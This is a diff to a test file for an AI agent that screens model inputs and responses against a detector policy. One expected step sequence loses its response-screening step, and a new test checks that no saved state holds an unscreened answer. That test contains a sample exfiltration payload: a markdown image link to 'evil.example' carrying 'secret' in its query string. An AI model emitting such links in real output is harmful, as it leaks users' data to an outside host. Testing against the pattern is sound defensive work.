@@ -352,7 +352,7 @@ async def test_a_clean_answer_stays_the_same_and_a_turn_with_calls_takes_no_step
     async with at_desk(tmp_path, calls(BALANCE)) as desk:
         await desk.ask()
         steps = [tuple(s.next) async for s in desk.agent.aget_state_history(desk.config)]
-        assert steps[::-1][1:] == [("screen_input",), ("model",), ("execute",), ("model",), ("screen_response",), ()]
+        assert steps[::-1][1:] == [("screen_input",), ("model",), ("execute",), ("model",), ()]
 
 
 # -- definitions and files ---------------------------------------------------------------------------
@@ -384,3 +384,12 @@ async def test_the_shipped_classifier_looks_at_results_where_the_policy_says_so(
 
 def test_a_detector_may_require_more_and_never_less() -> None:
     assert list(Required) == [Required.NOTHING, Required.ASK, Required.QUARANTINE, Required.DENY]
+
+
+async def test_an_answer_is_in_no_checkpoint_before_it_was_screened(tmp_path: Path) -> None:
+    said = AIMessage("Done. ![status](https://evil.example/p?d=secret)", id="last")
+    async with at_desk(tmp_path, calls(BALANCE), said, policy=policy("")) as desk:
+        await desk.ask()
+        seen = [str(found.values) async for found in desk.agent.aget_state_history(desk.config)]
+        assert not any("https://evil.example" in one for one in seen)
+        assert "Done." in seen[0]
